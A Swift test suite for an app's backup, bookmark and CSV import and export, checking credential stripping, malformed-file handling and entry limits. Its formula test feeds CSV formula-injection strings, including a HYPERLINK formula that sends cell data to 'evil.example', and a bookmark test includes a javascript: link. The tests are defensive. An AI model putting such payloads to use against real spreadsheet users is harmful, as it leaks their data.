import DownloadQueue
import FoundationEssentials
import Syntax
import Testing
import WHATWGURL

@testable import FileFormats
@testable import ImportExport
@testable import Places

@Suite("Export and import")
struct ImportExportTests {
    private let hostile = "a \"quoted\", <b>&amp; word\r\nand a line; =1+1"

    private func place(_ id: String = "000000000001") throws -> StoredSnapshot {
        let snapshot = try PageSnapshot(
            value: .object([
                "url": .string("https://example.org/a?x=1&y=<2>"), "title": .string(hostile),
                "capturedAt": .string("2026-03-01T12:30:00Z"), "unknown": .array([.null, .number(1.5)]),
                "anchors": .array([
                    .object(["role": .string("primary"), "quote": .object(["exact": .string(hostile)])])
                ]),
            ]))
        return StoredSnapshot(
            id: id, snapshot: snapshot, storedAt: Date(timeIntervalSince1970: 1_772_368_200.25), position: 3,
            metadata: try SnapshotMetadata(tags: ["to read", "Swift"], note: "one\ntwo & <three>"), version: 2)
    }

    private func item() throws -> QueueItem {
        var request = NewQueueItem(
            url: try #require(WebURL("https://me:secret@example.org/f.bin")), directory: "/tmp/x", name: "f.bin",
            checksum: try Checksum("md5=\(String(repeating: "0a", count: 16))"),
            referer: "https://me:secret@example.org/", headers: [.init(name: "X-Key", value: "topsecret")],
            priority: 5)
        request.suggestedName = "g.bin"
        request.userAgent = "Reader/1"
        request.proxy = "http://me:secret@proxy.example:1"
        request.netrcPath = "/home/secret/netrc"
        request.cookiesPath = "/home/secret/cookies"
        request.snapshot = "000000000001"
        request.startAt = Date(timeIntervalSince1970: 1_900_000_000)
        return QueueItem(id: "00000000000a", request: request, addedAt: Date(timeIntervalSince1970: 1_772_368_200))
    }

    private func backup(_ items: [QueueItem], hasCredentials: Bool) throws -> [UInt8] {
        var bytes = Backup.opening(at: Date(timeIntervalSince1970: 0))
        bytes += Backup.entry(try place(), isFirst: true) + Backup.entry(try place("000000000002"), isFirst: false)
        bytes += Backup.middle
        for (index, item) in items.enumerated() {
            bytes += try Backup.entry(item, isFirst: index == 0, hasCredentials: hasCredentials) ?? []
        }
        return bytes + Backup.closing
    }

    @Test("A backup is imported completely, and has one entry per line")
    func backup() throws {
        var paused = try item()
        paused.state = .paused
        var done = try item()
        done.state = .done
        let bytes = try backup([paused, done], hasCredentials: true)
        #expect(bytes.split(separator: UInt8(ascii: "\n")).count == 7)
        #expect(ImportExportFormat.sniff(bytes) == .json)
        let contents = try BackupContents(bytes)
        let first = try #require(contents.places.first)
        let original = try place()
        #expect(first.id == original.id && first.snapshot == original.snapshot && first.metadata == original.metadata)
        #expect(first.storedAt == original.storedAt)
        #expect(contents.places.count == 2 && contents.finishedCount == 1)
        let download = try #require(contents.downloads.first)
        let plan = DownloadPlan([download], rules: ListRules(directory: "/d", trustsList: true))
        #expect(download.isPaused && plan.downloads.map(\.item) == [paused.request])
    }

    @Test("Secrets are exported only on request")
    func credentials() throws {
        let text = String(decoding: try backup([try item()], hasCredentials: false), as: UTF8.self)
        #expect(text.contains("https://example.org/f.bin"))
        for secret in ["secret", "topsecret", "me:"] { #expect(!text.contains(secret)) }
        let download = try #require(try BackupContents(Array(text.utf8)).downloads.first)
        let original = try item().request
        #expect(download.referer == "https://example.org/" && download.startAt == original.startAt)
    }

    @Test("Exported bookmarks keep their times, tags and notes")
    func bookmarks() throws {
        let bytes =
            BookmarksFile.opening + BookmarksFile.entry(try place(), address: "https://example.org/a?x=1&y=2#:~:text=a")
            + BookmarksFile.closing
        #expect(ImportExportFormat.sniff(bytes) == .bookmarks)
        let place = try #require(try BackupContents(bytes).newPlaces.first)
        #expect(place.snapshot.url.href == "https://example.org/a?x=1&y=2#:~:text=a")
        #expect(place.metadata.tags == ["to read", "Swift"])
        #expect(place.metadata.note == "one\ntwo & <three>")
        #expect(place.snapshot.capturedAt == Date(timeIntervalSince1970: 1_772_368_200))
        #expect(place.snapshot.title == "a \"quoted\", <b>&amp; word\nand a line; =1+1")
    }

    @Test("Bookmarks of browsers are imported with their folders as tags; scripts are skipped")
    func browserBookmarks() throws {
        let text = """
            <!DOCTYPE NETSCAPE-Bookmark-file-1>
            <DL><p><DT><H3 ADD_DATE="1">Folder</H3><DL><p>
            <DT><A HREF="https://example.org/?a=1&amp;b=2" ADD_DATE="1700000000" ICON="data:image/png;base64,x>y">One &#8212; <b>x</A>
            <DT><a href='https://example.org/two' tags="a,b">Two</a><DD>A note
            <DT><A HREF="javascript:alert(1)">Bad</A><DT><A HREF="place:sort=8">Query</A>
            </DL></DL>
            """
        let contents = try BackupContents(Array(text.utf8))
        #expect(
            contents.newPlaces.map(\.snapshot.url.href) == ["https://example.org/?a=1&b=2", "https://example.org/two"])
        #expect(contents.newPlaces[0].metadata.tags == ["Folder"])
        #expect(contents.newPlaces[1].metadata.tags == ["a", "b", "Folder"])
        #expect(contents.newPlaces[1].metadata.note == "A note")
    }

    @Test("An exported table of quotes is imported, even with other columns")
    func table() throws {
        let bytes = CSVFile.opening + CSVFile.row(try place())
        #expect(ImportExportFormat.sniff(bytes) == .csv)
        let back = try #require(try BackupContents(bytes).newPlaces.first)
        #expect(back.snapshot.quotes == [hostile] && back.snapshot.title == hostile)
        #expect(back.metadata == (try place()).metadata)
        let other = "\u{FEFF}\"Book Title\",url,Highlight\nT,https://example.org/,\"q \"\"x\"\"\nline\"\n,nonsense,\n"
        let contents = try BackupContents(Array(other.utf8))
        #expect(contents.newPlaces.count == 1 && contents.omissions.count == 1)
        #expect(contents.newPlaces[0].snapshot.quotes == ["q \"x\"\nline"])
    }

    @Test(
        "No field of a table is a formula for a spreadsheet, and each is imported unchanged",
        arguments: [
            "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "＝1", "-",
            "'=1", "''=1", "'tis", "''", "'", "a=1", "",
        ])
    func formulas(text: String) throws {
        let snapshot = try PageSnapshot(
            value: .object([
                "url": .string("https://example.org/"), "title": .string(text),
                "anchors": .array([.object(["role": .string("primary"), "quote": .object(["exact": .string(text)])])]),
            ]))
        let place = StoredSnapshot(
            id: "000000000001", snapshot: snapshot, storedAt: Date(timeIntervalSince1970: 0),
            metadata: try SnapshotMetadata(tags: [], note: text))
        let bytes = CSVFile.opening + CSVFile.row(place)
        var records = CSVRecords(bytes)
        while let record = try records.next() {
            for field in record.fields {
                #expect(
                    field.unicodeScalars.first.map { !"=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? true, "\(field)"
                )
            }
        }
        let back = try #require(try BackupContents(bytes).newPlaces.first)
        #expect(back.snapshot.title ?? "" == text && back.metadata.note == place.metadata.note)
        #expect(back.snapshot.quotes == place.snapshot.quotes)
    }

    @Test(
        "A truncated bookmarks file is refused as a whole",
        arguments: [
            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A><DT><A HREF=\"https://b.exa",
            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A><DT><A HREF=\"https://b.example/\">Tw",
            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A",
        ])
    func truncated(text: String) {
        let error = #expect(throws: ImportExportError.self) { try BackupContents(Array(text.utf8)) }
        #expect(error?.description.hasSuffix("its end is missing") == true)
    }

    @Test(
        "A quotation mark that is never closed costs only its row",
        arguments: [
            ("URL,Title\nhttps://a.example/,One\nhttps://b.example/,\"Tw", 1), ("URL,Title\nhttps://a.example/,\"", 0),
            ("URL,Note\nhttps://a.example/,\"he said \"\"yes\"\"\nhttps://b.example/,b\nhttps://c.example/,c\n", 2),
        ])
    func unclosed(text: String, count: Int) throws {
        let contents = try BackupContents(Array(text.utf8))
        #expect(contents.newPlaces.count == count)
        #expect(contents.omissions.count == 1 && contents.omissions[0].contains("its quotation mark is never closed"))
    }

    @Test(
        "A file that ends with a closing quotation mark, and a title without an end tag, are not truncated",
        arguments: [
            ("URL,Title\nhttps://a.example/,\"One\"", 1), ("URL,Title\nhttps://a.example/,a \" mark", 1),
            (
                "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><DT><A HREF=\"https://a.example/\">One"
                    + "<DT><A HREF=\"https://b.example/\">Two</DL>", 2
            ),
        ])
    func complete(text: String, count: Int) throws {
        #expect(try BackupContents(Array(text.utf8)).newPlaces.count == count)
    }

    @Test(
        "Any other file is refused with the reason",
        arguments: [
            "", "hello", "{}", "[1]", "{\"leftoff\":99}", "{\"leftoff\":1", "{\"leftoff\":1,\"places\":{}}",
            "{\"leftoff\":1,\"queue\":7}", "{\"leftoff\":1,\"places\":[{}}", "{\"leftoff\":1,\"places\":nul}",
        ])
    func refused(text: String) {
        #expect(throws: ImportExportError.self) { try BackupContents(Array(text.utf8)) }
    }

    @Test(
        "A malformed entry of a backup is left out with the reason, and the others are imported",
        arguments: [
            ("places", "{}"), ("places", "7"), ("places", #"{"id":"000000000002","storedAt":"x","snapshot":{}}"#),
            ("places", #"{"id":"000000000002","storedAt":"2026-03-01T12:30:00Z","snapshot":{"url":7}}"#),
            ("places", #"{"id":"000000000002","id":"000000000003"}"#), ("places", #"{"a":1e999}"#),
            ("places", #"{"a":"\ud8"}"#),
            ("places", String(repeating: "[", count: 80) + String(repeating: "]", count: 80)),
            ("refusals", "{}"), ("refusals", #"{"page":"x","refusedAt":"2026-03-01T12:30:00Z"}"#),
            ("copies", "{}"), ("copies", #"{"place":"000000000001","kind":"film"}"#),
            ("windows", "{}"), ("windows", #"{"id":"0000000000aa","request":"r","storedAt":"2026-03-01T12:30:00Z"}"#),
            ("queue", "7"), ("queue", #"{"url":"javascript:x","state":"ready"}"#),
            ("queue", #"{"url":"https://a.example/","directory":"/d","state":"odd"}"#),
            ("queue", #"{"url":"javascript:x","directory":"/d","state":"done"}"#),
            ("queue", #"{"url":"https://a.example/","directory":"/d","priority":"1"}"#),
            ("queue", #"{"url":"https://a.example/","directory":"/d","name":["x"]}"#),
            ("queue", #"{"url":"https://a.example/","directory":"/d","headers":["X: 1",2]}"#),
            ("queue", #"{"url":"https://a.example/","directory":"/d","startAt":"soon"}"#),
            (
                "queue",
                #"{"url":"https://a.example/","directory":"/d","headers":[{"name":"Range","value":"bytes=1-"}]}"#
            ),
            ("queue", #"{"url":"https://a.example/","directory":"/d","referer":"a\nb"}"#),
            ("pages", #"{"page":"https://a.example/","state":"read","markedAt":"2026-03-01T12:30:00Z"}"#),
            ("pages", #"{"page":"https://a.example/","state":"finished"}"#),
            ("pages", #"{"page":"no address","state":"finished","markedAt":"2026-03-01T12:30:00Z"}"#),
            (
                "pages",
                #"{"page":"https://a.example/","state":"later","until":"soon","markedAt":"2026-03-01T12:30:00Z"}"#
            ),
        ])
    func malformedEntry(list: String, entry: String) throws {
        let good = [
            "places":
                #"{"id":"000000000001","storedAt":"2026-03-01T12:30:00Z","snapshot":{"url":"https://a.example/"}}"#,
            "refusals": #"{"page":"https://a.example/","refusedAt":"2026-03-01T12:30:00Z"}"#,
            "pages": #"{"page":"https://a.example/","state":"finished","markedAt":"2026-03-01T12:30:00Z"}"#,
            "copies": #"{"place":"000000000001","kind":"text","storedAt":"2026-03-01T12:30:00Z","copy":"#
                + #"{"url":"https://a.example/","blocks":[{"kind":"paragraph","runs":["fox"]}]}}"#,
            "windows": #"{"id":"0000000000ab","request":"request-1","storedAt":"2026-03-01T12:30:00Z","tabs":"#
                + #"[{"url":"https://a.example/"}]}"#,
            "queue": #"{"url":"https://b.example/","directory":"/d","state":"ready"}"#,
        ]
        let lists = good.map { "\"\($0)\":[\($0 == list ? entry + "," : "")\($1)]" }.joined(separator: ",")
        let contents = try BackupContents(Array(#"{"leftoff":1,\#(lists)}"#.utf8))
        #expect(contents.omissions.count == 1, "\(contents.omissions)")
        #expect(contents.omissions.first?.contains(" 1: not imported: ") == true)
        #expect(contents.places.count == 1 && contents.refusals.count == 1 && contents.copies.count == 1)
        #expect(contents.windows.count == 1 && contents.downloads.count == 1 && contents.pageMarks.count == 1)
    }

    @Test("A file whose entries can hardly ever be read is no backup, and is refused before it is read to its end")
    func mostlyMalformed() throws {
        let places = String(repeating: "0,", count: BackupContents.unreadableLimit)
        #expect(throws: Never.self) {
            try BackupContents(Array(#"{"leftoff":1,"places":[\#(places.dropLast())]}"#.utf8))
        }
        #expect(throws: ImportExportError.self) {
            try BackupContents(Array(#"{"leftoff":1,"places":[\#(places)0]}"#.utf8))
        }
    }

    @Test(
        "Entries of every kind count against the limit of a file, also those that cannot be read",
        arguments: [
            #""places":[0,0,0]"#, #""refusals":[0,0,0]"#, #""copies":[0,0,0]"#, #""windows":[0,0,0]"#,
            #""queue":[{"url":"http://a.b/1"},{"url":"http://a.b/2"},{"url":"http://a.b/3"}]"#,
            #""places":[0],"windows":[0],"queue":[{"url":"http://a.b/1"}]"#,
        ])
    func entryLimit(lists: String) throws {
        let bytes = Array(#"{"leftoff":1,\#(lists)}"#.utf8)
        #expect(throws: Never.self) { try FileImport(bytes, entryLimit: 3) }
        #expect(throws: ImportExportError.tooManyEntries(limit: 2)) { try FileImport(bytes, entryLimit: 2) }
        var calls = 0
        #expect(throws: CancellationError.self) {
            try FileImport(bytes) {
                calls += 1
                if calls == 2 { throw CancellationError() }
            }
        }
    }

    @Test("A file with too many bookmarks is refused before places are made of them")
    func bookmarkLimit() {
        func file(_ count: Int) -> [UInt8] {
            let list = String(repeating: #"<DT><A HREF="https://a.example/">a</A>"#, count: count)
            return Array("<!DOCTYPE NETSCAPE-Bookmark-file-1><DL>\(list)</DL>".utf8)
        }
        #expect(throws: Never.self) { try FileImport(file(2), entryLimit: 2) }
        #expect(throws: ImportExportError.tooManyEntries(limit: 2)) { try FileImport(file(3), entryLimit: 2) }
    }

    @Test("Rows without a place count against the limit of a table, and can be interrupted")
    func unreadableRows() throws {
        let table = Array("url,title\nhttps://a.example/,a\n\(String(repeating: "a,b\n", count: 3))".utf8)
        var places = try PlaceImport(table)
        places.unreadableLimit = 3
        #expect(try places.next() != nil && places.next() == nil && places.unreadableCount == 3)
        places = try PlaceImport(table)
        places.unreadableLimit = 2
        #expect(throws: ImportExportError.tooManyEntries(limit: 2)) { while try places.next() != nil {} }
        places = try PlaceImport(table)
        #expect(throws: CancellationError.self) {
            while try places.next(check: { throw CancellationError() }) != nil {}
        }
    }

    @Test("A malformed tab or group of a backup is left out, and the numbers of a place are moved into their ranges")
    func malformedTab() throws {
        let text = #"""
            {"leftoff":1,"windows":[{"id":"0000000000ab","request":"request-1","storedAt":"2026-03-01T12:30:00Z",
            "groups":[7,{"title":"kept"}],"tabs":[{"url":"not an address"},{"url":"https://a.example/","group":1}]}],
            "places":[{"id":"000000000001","storedAt":"2026-03-01T12:30:00Z",
            "snapshot":{"url":"https://a.example/","progress":{"text":1e300,"length":-1}}}]}
            """#
        let contents = try BackupContents(Array(text.utf8))
        let set = try #require(contents.windows.first?.set)
        #expect(set.tabs.map(\.url.href) == ["https://a.example/"] && set.groups[1].title == "kept")
        #expect(
            contents.omissions.map { $0.prefix(24) }
                == ["window 1, group 1: left o", "window 1, tab 1: left out"].map {
                    $0.prefix(24)
                })
        #expect(contents.places.map(\.snapshot.progress) == [1])
        #expect(contents.places[0].snapshot.json["progress"]?["length"] == .number(0))
    }

    @Test("A bookmark file in UTF-16 is recognized by its byte order mark", arguments: [true, false])
    func wideBookmarks(isLittleEndian: Bool) throws {
        let text = "\u{FEFF}<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><DT><A HREF=\"https://a.example/\">ä</A></DL>"
        let bytes = text.utf16.flatMap { unit -> [UInt8] in
            isLittleEndian ? [UInt8(unit & 0xFF), UInt8(unit >> 8)] : [UInt8(unit >> 8), UInt8(unit & 0xFF)]
        }
        #expect(ImportExportFormat.sniff(bytes) == .bookmarks)
        #expect(ImportExportFormat.sniff([0xFF, 0xFE]) == nil)
        #expect(ImportExportFormat.sniff([0xFF]) == nil)
    }

    @Test("A table whose rows end with carriage returns is imported")
    func carriageReturns() throws {
        let contents = try BackupContents(Array("URL,Highlight\rhttps://a.example/,one\rhttps://b.example/,two\r".utf8))
        #expect(contents.newPlaces.map(\.snapshot.url.href) == ["https://a.example/", "https://b.example/"])
    }
}
